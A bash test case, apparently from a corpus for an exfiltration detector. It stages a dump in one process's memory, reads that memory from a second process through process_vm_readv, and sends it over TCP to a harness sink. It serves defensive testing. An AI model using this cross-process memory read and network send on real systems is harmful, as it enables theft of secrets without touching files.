#!/bin/bash
# B-vmreadv: one process has read the dump and sleeps; another takes its memory and sends.
# flow: process_vm_readv: the sender never touches the dump or a descriptor.
# tools: python3
# expect: sent counted port critical
. "$CORPUS/lib.sh"
mkdump
sink tcp
bg python3 -c 'import ctypes, mmap, sys, time
dump = open(sys.argv[1], "rb").read()
memory = mmap.mmap(-1, len(dump))
memory[:] = dump
print(ctypes.addressof(ctypes.c_char.from_buffer(memory)), len(dump), file=open("where", "w"))
time.sleep(20)' "$D"
until_true [ -s where ]
python3 - "$LAST" $(cat where) "$SINK" "$PORT" <<'END'
import ctypes, socket, sys
holder, address, size = map(int, sys.argv[1:4])


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


memory = ctypes.create_string_buffer(size)
near, far = Part(ctypes.addressof(memory), size), Part(address, size)
call = ctypes.CDLL(None).process_vm_readv
got = call(holder, ctypes.byref(near), ctypes.c_ulong(1), ctypes.byref(far), ctypes.c_ulong(1), ctypes.c_ulong(0))
socket.create_connection((sys.argv[4], int(sys.argv[5]))).sendall(memory.raw[:got])
END
sunk
